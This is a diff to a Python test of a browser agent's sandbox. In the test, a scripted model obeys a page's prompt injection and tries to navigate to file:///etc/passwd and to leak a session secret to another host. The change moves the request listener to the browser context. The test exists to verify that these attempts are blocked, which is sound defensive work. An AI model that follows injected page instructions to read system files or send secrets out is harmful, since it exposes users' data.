@@ -110,8 +110,8 @@ def test_an_injected_page_cannot_take_the_agent_off_its_host(page, site, tmp_pat
     """A scripted model obeys the page's injection; every way off 127.0.0.1 is blocked, and nothing of the file or
     of the other host reaches the model. The page's own stylesheet from that host still loads."""
     other = site.replace("127.0.0.1", "localhost")
-    finished: list[str] = []
-    page.on("requestfinished", lambda request: finished.append(request.url))
+    finished: list[str] = []  # on the context: a popup's requests are its own page's
+    page.context.on("requestfinished", lambda request: finished.append(request.url))
     fake_api.push(
         decision("navigate", url="file:///etc/passwd"),
         decision("navigate", url=f"{other}/about.html?leak=secret-of-the-session"),
